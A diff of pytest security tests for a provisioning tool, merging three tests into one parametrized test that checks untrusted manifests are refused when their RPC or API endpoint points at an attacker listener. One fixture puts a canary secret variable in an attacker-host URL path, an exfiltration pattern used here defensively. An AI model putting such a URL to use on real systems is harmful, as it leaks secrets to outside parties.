@@ -133,42 +133,34 @@ def test_vault_elsewhere_is_refused_before_any_connection(
     assert_no_secret(run.out + run.err, [sandbox.vault_token], "the runner's Vault token")
 
 
-def test_rpc_elsewhere_with_a_variable_in_its_path_is_refused(
-    sandbox: SandboxInfo, tmp_path: Path, attacker: AttackerListener
+@pytest.mark.parametrize(
+    ("endpoints", "field", "names"),
+    [
+        (
+            "  api_url: ${{DYDX_API_URL}}\n  rpc_url: {url}/${{CANARY_SECRET}}",
+            "rpc_url",
+            "",
+        ),
+        ("  api_url: ${{DYDX_API_URL}}\n  rpc_url: {url}/rpc", "rpc_url", "ETH_RPC_URL"),
+        ("  api_url: {url}\n  rpc_url: ${{ETH_RPC_URL}}", "api_url", "DYDX_API_URL"),
+    ],
+    ids=["rpc-with-a-variable-in-its-path", "rpc", "dydx-api"],
+)
+def test_an_endpoint_elsewhere_is_refused(
+    sandbox: SandboxInfo,
+    tmp_path: Path,
+    attacker: AttackerListener,
+    endpoints: str,
+    field: str,
+    names: str,
 ) -> None:
-    network = (
-        "network:\n  name: sandbox\n  chain_id: 11155111\n  api_url: ${DYDX_API_URL}\n"
-        f"  rpc_url: {attacker.url}/${{CANARY_SECRET}}"
+    network = "network:\n  name: sandbox\n  chain_id: 11155111\n" + endpoints.format(
+        url=attacker.url
     )
     path = hostile(tmp_path, {"network: sandbox": network})
     run = plan_untrusted(sandbox, path)
-    assert_refused_at(run, path, line_of(path, "rpc_url"), attacker)
-
-
-def test_rpc_elsewhere_is_refused(
-    sandbox: SandboxInfo, tmp_path: Path, attacker: AttackerListener
-) -> None:
-    network = (
-        "network:\n  name: sandbox\n  chain_id: 11155111\n  api_url: ${DYDX_API_URL}\n"
-        f"  rpc_url: {attacker.url}/rpc"
-    )
-    path = hostile(tmp_path, {"network: sandbox": network})
-    run = plan_untrusted(sandbox, path)
-    assert_refused_at(run, path, line_of(path, "rpc_url"), attacker)
-    assert "ETH_RPC_URL" in run.err
-
-
-def test_dydx_api_elsewhere_is_refused(
-    sandbox: SandboxInfo, tmp_path: Path, attacker: AttackerListener
-) -> None:
-    network = (
-        "network:\n  name: sandbox\n  chain_id: 11155111\n"
-        f"  api_url: {attacker.url}\n  rpc_url: ${{ETH_RPC_URL}}"
-    )
-    path = hostile(tmp_path, {"network: sandbox": network})
-    run = plan_untrusted(sandbox, path)
-    assert_refused_at(run, path, line_of(path, "api_url"), attacker)
-    assert "DYDX_API_URL" in run.err
+    assert_refused_at(run, path, line_of(path, field), attacker)
+    assert names in run.err  # the variable whose pinned value it must use
 
 
 def test_another_chain_than_the_pinned_one_is_refused(
@@ -187,16 +179,7 @@ def test_untrusted_plan_needs_every_endpoint_pinned(
     sandbox: SandboxInfo, tmp_path: Path, attacker: AttackerListener
 ) -> None:
     path = hostile(tmp_path, {})
-    run = provision(
-        sandbox,
-        "plan",
-        "-f",
-        str(path),
-        "--untrusted-manifest",
-        "--allow-env",
-        "VAULT_TOKEN",
-        env={**CANARIES, "PROVISION_CHAIN_ID": ""},
-    )
+    run = plan_untrusted(sandbox, path, env={"PROVISION_CHAIN_ID": ""})
     assert run.rc == 1 and "PROVISION_CHAIN_ID" in run.err and "--chain-id" in run.err, run
     assert_nothing_leaked(run, attacker)
 
